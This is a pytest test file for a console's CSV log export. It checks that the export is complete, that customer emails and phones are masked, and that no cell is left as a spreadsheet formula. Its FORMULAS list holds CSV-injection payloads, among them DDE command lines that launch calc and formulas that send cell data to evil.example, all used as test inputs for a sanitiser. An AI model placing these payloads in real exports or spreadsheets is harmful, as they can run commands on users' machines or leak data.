"""The log as a file: complete, masked, and never a formula."""

import csv
import io

import pytest

from casefile.status import NoticeState
from gateway.console.csv_file import harmless
from gateway.console.mask import mask
from tests.gateway.world import World, seeded, set_state
from tests.people import LI_WEI


async def test_the_export_has_every_line_once_and_masks_customers(world: World) -> None:
    for number in range(4):
        await world.complain(f"第 {number} 件，南湖支行")
        world.clock.forward(hours=1)
    await world.deliver()
    await world.login("auditor")
    answer = await world.http.get("/console/export.csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1 + 4 * 4  # receipt, order, progress, reminder
    assert len({row[-1] for row in rows}) == len(rows)
    assert LI_WEI.email not in answer.text
    assert "l***@customer.example" in answer.text
    assert answer.content.count(b"\r\n") == len(rows)
    english = (await world.http.get("/console/export.csv?kind=order&lang=en")).text
    assert english.count("order") == 4 + 4
    assert "Case" in english


FORMULAS = [
    *(f"{sign}1+1" for sign in "=+-@＝＋－＠|%"),
    *(
        f"{gap}=1+1"
        for gap in (" ", "  ", "\t", "\r", "\n", "\r\n", "\xa0", "\u3000", "\ufeff", "\u200b", "\u202e", "\0")
    ),
    *(f"{quote}=1+1" for quote in "'\"`´‘’“”＇＂"),
    *(f"{quote} {quote}@SUM(A1)" for quote in "'\""),
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1234567890",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"here")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "\t=1",
    "\r\n=1",
    "＝HYPERLINK(A1)",
    " ＋1",
    "\u3000＠x",
    "'=1",
    '"=1',
    '""=1',
    "=1,=2",
    "=1;=2",
    "=\u20282",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_no_cell_is_a_formula(value: str) -> None:
    assert len(FORMULAS) >= 40
    cell = harmless(value)
    assert cell.startswith("'")
    assert not set(cell) & set("\r\n\t\0")


@pytest.mark.parametrize(
    "value", ["", "南湖支行", "HY-2026-000001", "a=b", "3", "550 5.1.1 <x@y.example>: no", "“引号”"]
)
def test_ordinary_cells_stay_as_they_are(value: str) -> None:
    assert harmless(value) == value


async def test_no_formula_gets_into_the_file(world: World) -> None:
    """Through a column that strangers write: the words of a foreign server."""
    order, _ = await seeded(world)
    await world.login("auditor")
    for value in FORMULAS[::7]:
        await set_state(world, order, NoticeState.DEAD, value.replace("\0", " "))
        text = (await world.http.get("/console/export.csv?state=dead")).content.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) for cell in row)


@pytest.mark.parametrize(
    ("address", "masked"),
    [
        ("li.wei@customer.example", "l***@customer.example"),
        ("@customer.example", "***@customer.example"),
        ("+8613800138000", "+86***00"),
        ("10086", "***"),
        ("", ""),
    ],
)
def test_mask(address: str, masked: str) -> None:
    assert mask(address) == masked
